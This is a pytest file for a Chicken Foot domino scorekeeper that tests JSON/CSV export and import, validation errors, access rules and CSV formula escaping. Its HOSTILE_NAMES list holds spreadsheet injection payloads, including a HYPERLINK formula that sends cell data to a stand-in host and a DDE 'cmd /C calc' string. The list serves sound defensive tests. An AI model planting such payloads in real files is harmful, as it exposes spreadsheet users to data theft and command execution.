"""Games out and back in: JSON and CSV exports, an all-or-nothing import that skips what it holds."""

import copy
import csv
import io
import random

import pytest
from django.core.management import call_command
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from scorekeeper import services, transfer
from scorekeeper.demo import play_game
from scorekeeper.models import Entry, Game, Player, Round, Scorebook
from scorekeeper.rules.game import GameRules
from tests.api.conftest import app_for
from tests.factories import PlayerFactory, UserFactory

pytestmark = pytest.mark.django_db

RULES = [GameRules(tile_set=6), GameRules(tile_set=9, double_blank_penalty=25), GameRules(extended=True, tile_set=6),
         GameRules(tile_set=6, target_score=60)]  # fmt: skip


def seed(user, count=4, seed=3):
    rng = random.Random(seed)
    ids = [PlayerFactory(owner=user, name=name).pk for name in ("Ann", "Bén", "Çy", "Dot")]
    games = []
    for index in range(count):
        rules = RULES[index % len(RULES)]
        table = ids[: 2 + index % 3]
        rounds = play_game(rules, table, rng)
        games.append(services.import_game(by=user, players=table, rules=rules, rounds=rounds[: len(rounds) - index % 2],
                                          name=f"Night {index}"))  # fmt: skip
    return games


def snapshot(scorebook):
    """Everything that must survive the trip, by name (ids differ between accounts)."""
    return [
        (g.name, str(g.uid), g.tile_set, g.rules, g.status, g.created_at, g.finished_at,
         [(s.player.name, s.total, s.rank, s.is_winner) for s in g.seats.order_by("position")],
         [(r.number, r.starting_double, r.blocked,
           [(e.player.name, e.pips, e.tiles_left, e.tiles, e.double_blank, e.went_out, e.ended_on_double, e.penalty,
             e.score) for e in r.entries.order_by("position")]) for r in g.rounds.order_by("number")])
        for g in Game.objects.filter(scorebook=scorebook).order_by("created_at", "id")
    ]  # fmt: skip


def test_an_export_imported_into_a_fresh_account_gives_identical_games(app):
    seed(app.user)
    exported = app.get("/api/v1/export/?format=json").json()
    assert exported["format"] == "chicken-foot-scorekeeper" and exported["version"] == 2
    assert exported["games"][0]["players"][1] == "Bén"
    other = app_for("fresh@example.com")
    response = other.post("/api/v1/import/", exported)
    assert response.status_code == 201
    rounds = sum(len(g["rounds"]) for g in exported["games"])
    assert response.json() == {"games": 4, "rounds": rounds, "players_created": 4}
    assert snapshot(Scorebook.personal_for(other.user)) == snapshot(Scorebook.personal_for(app.user))
    again = other.post("/api/v1/import/", exported)  # the same file twice: nothing new
    assert again.status_code == 200 and again.json() == {"games": 0, "rounds": 0, "players_created": 0}
    assert Game.objects.filter(scorebook__personal_of=other.user).count() == 4


def test_one_impossible_round_among_many_saves_nothing_and_names_game_round_and_player(app):
    seed(app.user)
    exported = app.get("/api/v1/export/").json()
    bad = copy.deepcopy(exported)
    entry = next(e for e in bad["games"][2]["rounds"][1]["entries"] if not e["went_out"])
    entry["pips"], entry["tiles"], entry["tiles_left"] = 999, None, 1
    other = app_for("careful@example.com")
    response = other.post("/api/v1/import/", bad)
    assert response.status_code == 400
    (message,) = [m for m in response.json()["file"] if "999" in m]
    assert message.startswith("Game 3 (Night 2), round 2: ") and entry["player"] in message
    assert not Game.objects.filter(scorebook__personal_of=other.user).exists()
    assert not Player.objects.filter(scorebook__personal_of=other.user).exists()


@pytest.mark.parametrize(
    ("body", "says"),
    [({"format": "other"}, "Not a Chicken Foot"), ({"format": "chicken-foot-scorekeeper", "version": 9}, "version 1"),
     ({"format": "chicken-foot-scorekeeper", "version": 1, "games": [{"players": "Ann"}]}, '"players"'),
     ({"format": "chicken-foot-scorekeeper", "version": 1, "games": [{"players": ["A", "B"], "uid": "x"}]}, "UUID"),
     ({"format": "chicken-foot-scorekeeper", "version": 1, "games": [{"players": ["A", "B"], "rounds": 5}]}, "list"),
     ({"format": "chicken-foot-scorekeeper", "version": 1, "games": [{"players": ["A", "B"], "tile_set": "x",
       "rounds": [{"starting_double": "x", "entries": [{"player": "A", "pips": "many"}]}]}]}, "Game 1")],
)  # fmt: skip
def test_a_file_that_is_not_an_export_is_a_400_saying_why(app, body, says):
    response = app.post("/api/v1/import/", body)
    assert response.status_code == 400 and says in response.json()["file"][0]
    assert not Game.objects.exists()


def test_csv_has_one_row_per_entry_and_reads_back_with_the_csv_module(app):
    games = seed(app.user, count=2)
    response = app.get(f"/api/v1/games/{games[0].pk}/export/?format=csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert list(rows[0]) == transfer.CSV_COLUMNS
    entries = Entry.objects.filter(round__game=games[0]).order_by("round__number", "position")
    assert [(int(r["round"]), r["player"], int(r["score"])) for r in rows] == [
        (e.round.number, e.player.name, e.score) for e in entries
    ]
    assert app.get("/api/v1/export/?format=xml").status_code == 400


def test_exports_hold_only_what_the_user_can_see(app, other_app):
    seed(app.user, count=1)
    assert other_app.get("/api/v1/export/").json()["games"] == []
    assert other_app.get(f"/api/v1/games/{Game.objects.get().pk}/export/").status_code == 404


def test_a_viewer_cannot_import_and_a_stranger_cannot_name_the_scorebook(app, other_app):
    club = app.post("/api/v1/scorebooks/", {"name": "Club"}).json()
    body = {"format": "chicken-foot-scorekeeper", "version": 1, "games": []}
    assert other_app.post(f"/api/v1/import/?scorebook={club['id']}", body).status_code == 404
    code = app.post(f"/api/v1/scorebooks/{club['id']}/invites/", {"role": "viewer"}).json()["code"]
    other_app.post(f"/api/v1/invites/{code}/accept/")
    assert other_app.post(f"/api/v1/import/?scorebook={club['id']}", body).status_code == 403


def test_the_page_exports_and_imports_a_file(client, tmp_path):
    user = UserFactory()
    seed(user, count=2)
    client.force_login(user)
    data = client.get("/export/?format=json")
    assert data.status_code == 200 and "attachment" in data["Content-Disposition"]
    newcomer = UserFactory()
    client.force_login(newcomer)
    book = Scorebook.personal_for(newcomer)
    upload = io.BytesIO(data.content)
    upload.name = "games.json"
    page = client.post(f"/scorebooks/{book.pk}/import/", {"file": upload}, follow=True)
    assert "Imported 2 games" in page.content.decode()
    assert snapshot(book) == snapshot(Scorebook.personal_for(user))
    path = tmp_path / "games.json"
    path.write_bytes(data.content)
    out = io.StringIO()
    call_command("import_games", str(path), "--email", newcomer.email, stdout=out, verbosity=0)
    assert "0 games" in out.getvalue() and "2 already there" in out.getvalue()


@settings(max_examples=15, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
@given(seed_value=st.integers(0, 10_000), rules=st.sampled_from(RULES), players=st.integers(2, 4))
def test_any_exported_game_reimports_identically(django_db_blocker, seed_value, rules, players):
    with django_db_blocker.unblock():
        owner, newcomer = UserFactory(), UserFactory()
        ids = [PlayerFactory(owner=owner, name=f"P{i}").pk for i in range(players)]
        rounds = play_game(rules, ids, random.Random(seed_value))
        game = services.import_game(
            by=owner, players=ids, rules=rules, rounds=rounds[: random.Random(seed_value).randint(1, len(rounds))]
        )
        data = transfer.as_json(transfer.games_with_everything(Game.objects.filter(pk=game.pk)))
        target = Scorebook.personal_for(newcomer)
        transfer.import_games(data=data, scorebook=target, by=newcomer)
        assert snapshot(target) == snapshot(Scorebook.personal_for(owner))
        Round.objects.all().delete()
        Game.objects.all().delete()


HOSTILE_NAMES = ['=HYPERLINK("http://e.x/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]


@pytest.mark.parametrize("path", ["/api/v1/export/?format=csv", "/export/?format=csv"])
def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote_and_numbers_stay_numbers(client, path):
    user = UserFactory()
    ids = [PlayerFactory(owner=user, name=name).pk for name in HOSTILE_NAMES[:4]]
    rules = GameRules(tile_set=6)
    services.import_game(by=user, players=ids, rules=rules, rounds=play_game(rules, ids, random.Random(2)),
                         name="=1+1")  # fmt: skip
    client.force_login(user)
    response = client.get(path)
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")  # the byte-order mark spreadsheets need for accents
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert {row["player"] for row in rows} == {f"'{name}" for name in HOSTILE_NAMES[:4]}
    assert {row["game"] for row in rows} == {"'=1+1"}
    assert all(row["score"].lstrip("-").isdigit() and row["pips"].isdigit() for row in rows)


def test_a_tab_or_a_carriage_return_at_the_start_of_a_name_is_neutralised_too():
    assert [transfer.spreadsheet_text(name) for name in HOSTILE_NAMES[4:]] == ["'\tTab", "'\rCR"]
    assert [transfer.spreadsheet_text(name) for name in ("Ann", "Bén 2", "a=b", "")] == ["Ann", "Bén 2", "a=b", ""]


def test_csv_says_who_went_out_each_round_and_keeps_accents(app):
    games = seed(app.user, count=1)
    response = app.get(f"/api/v1/games/{games[0].pk}/export/?format=csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    entries = Entry.objects.filter(round__game=games[0]).order_by("round__number", "position")
    assert [(r["player"], r["went_out"]) for r in rows] == [
        (e.player.name, "true" if e.went_out else "false") for e in entries
    ]
    assert "Bén" in {r["player"] for r in rows}
    assert transfer.CSV_COLUMNS[-1] == "went_out"  # last: sheets that read columns by place still work


def test_an_export_made_before_the_csv_changes_still_imports(app):
    """The JSON export did not change (the CSV is never imported): a version 1 file of the first
    release, written by hand here, goes in as it did."""
    old = {"format": "chicken-foot-scorekeeper", "version": 1, "games": [{
        "uid": "0c8f5d8e-7d2c-4a86-9c59-1f7a3f0e2a11", "name": "Old night", "scorebook": "Ann",
        "created_at": "2024-03-01T19:00:00+01:00", "finished_at": None, "tile_set": 6,
        "rules": {"double_blank_penalty": 50, "end_on_double_penalty": 50, "extended": False, "target_score": None},
        "players": ["Ann", "Bén"],
        "rounds": [{"number": 1, "starting_double": 6, "entries": [
            {"player": "Ann", "pips": 0, "tiles_left": 0, "tiles": [], "double_blank": False, "went_out": True,
             "ended_on_double": False, "penalty": 0, "score": 0},
            {"player": "Bén", "pips": 12, "tiles_left": None, "tiles": [], "double_blank": False, "went_out": False,
             "ended_on_double": False, "penalty": 0, "score": 12}]}]}]}  # fmt: skip
    response = app.post("/api/v1/import/", old)
    assert response.status_code == 201 and response.json() == {"games": 1, "rounds": 1, "players_created": 2}
    assert app.get("/api/v1/export/").json()["games"][0]["rounds"][0]["entries"][1]["score"] == 12
